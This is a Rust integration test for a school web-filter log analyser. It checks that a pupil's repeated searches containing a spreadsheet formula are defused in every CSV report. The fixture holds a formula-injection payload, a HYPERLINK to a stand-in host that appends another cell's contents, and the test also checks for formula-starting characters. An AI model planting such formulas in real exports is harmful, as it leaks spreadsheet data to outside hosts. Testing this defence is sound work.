//! Log text written by a pupil must never become a live formula in a spreadsheet the DSL opens:
//! a pupil who searches for `=HYPERLINK(...)` over and over gets a repeated-attempts finding, and
//! every CSV that carries the search (`repeats --format csv`, the weekly `findings.csv` and
//! `incident-log.csv`) holds it defused with a leading `'`.

use std::path::Path;
use std::process::{Command, Output};

fn filterwatch(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_filterwatch")).args(args).output().expect("runs")
}

/// Twelve blocked Google searches in eleven minutes by one pupil, on Wednesday 21 October 2026
/// from 10:00 BST, in Squid's native format.
fn formula_searches(dir: &Path) -> String {
    let query = "%3DHYPERLINK(%22http%3A%2F%2Fx%2F%3F%22%26B2%2C%22free+vpn%22)";
    let start = 1_792_573_200u64;
    let log: String = (0..12)
        .map(|i| {
            format!(
                "{}.000      0 10.1.2.3 TCP_DENIED/403 3500 GET https://www.google.com/search?q={query} 09jbloggs HIER_NONE/- text/html\n",
                start + i * 60
            )
        })
        .collect();
    let path = dir.join("access.log");
    std::fs::write(&path, log).unwrap();
    path.display().to_string()
}

fn assert_no_live_formula(csv_text: &str, what: &str) {
    assert!(csv_text.contains("HYPERLINK"), "{what} carries the search: {csv_text}");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv_text.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{what}: live formula in cell {cell:?}");
            if cell.contains("HYPERLINK") {
                assert!(!cell.starts_with("=HYPERLINK"), "{what}: {cell:?}");
            }
        }
    }
}

#[test]
fn a_typed_formula_reaches_every_csv_defused() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("school.toml");
    std::fs::write(&config, "id = \"riverside\"\n[[role_rules]]\npattern = '^\\d{2}[a-z]+$'\nrole = \"pupil\"\n")
        .unwrap();
    let data = dir.path().join("data");
    let (config, data_arg) = (config.display().to_string(), data.display().to_string());
    let log = formula_searches(dir.path());
    let out = filterwatch(&["ingest", "-q", "--config", &config, "--data", &data_arg, &log]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));

    let out = filterwatch(&["repeats", "--data", &data_arg, "--format", "csv"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"free vpn\"\")"), "defused, not dropped: {text}");
    assert_no_live_formula(&text, "repeats --format csv");

    let reports = dir.path().join("report");
    let out = filterwatch(&[
        "report",
        "--data",
        &data_arg,
        "--config",
        &config,
        "--week",
        "2026-W43",
        "--out",
        reports.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    for name in ["findings.csv", "incident-log.csv"] {
        let text = std::fs::read_to_string(reports.join(name)).unwrap();
        assert_no_live_formula(&text, name);
    }
}
